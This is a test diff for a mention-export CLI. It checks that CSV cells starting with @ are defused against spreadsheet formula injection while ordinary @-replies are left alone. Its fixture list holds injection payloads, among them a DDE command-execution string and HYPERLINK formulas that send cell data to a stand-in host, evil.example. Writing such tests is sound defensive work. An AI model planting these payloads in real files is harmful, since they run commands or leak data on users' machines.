@@ -430,6 +430,25 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_numbers_k
     assert all(float(r["score"]) < 0 for r in rows)  # a negative number is a number, not a formula
 
 
+# Each text starting with @ as a spreadsheet would read it: (text, whether it must be defused).
+AT_CELLS = [("@cmd|' /C calc'!A0", True), ('@A1&HYPERLINK("http://evil.example/?x="&A1)', True),
+            ("@SUM(1+1)*cmd", True), ("@A1+A2", True), ("@Sheet1!A1", True), ("@x [book.xlsx]Sheet1!A1", True),
+            ("@x\n=HYPERLINK(\"http://evil.example\")", True), ("@x\tcmd", True), ("@PinebrookCoffee", False),
+            ("@PinebrookCoffee you charged me twice", False), ("@pinebrook it's been 3 days, any news?", False),
+            ("@alice@mastodon.social thanks, that helped", False)]
+
+
+def test_csv_defuses_every_text_starting_with_at_but_a_plain_reply(invoke, tmp_path):
+    now = datetime.now(timezone.utc)
+    path = seed(tmp_path / "at.db", [mention(i, text, now - timedelta(minutes=i), "negative")
+                                     for i, (text, _) in enumerate(AT_CELLS, start=1)])
+
+    out = invoke("--db", path, "export", "--format", "csv", "--columns", "text").stdout
+
+    rows = [r["text"] for r in csv.DictReader(io.StringIO(out))]
+    assert sorted(rows) == sorted(("'" + text if defused else text) for text, defused in AT_CELLS)
+
+
 
 def _columns(text):
     # Terminal columns, counted as a terminal draws them: CJK and each emoji (a ZWJ sequence too) two, combining marks
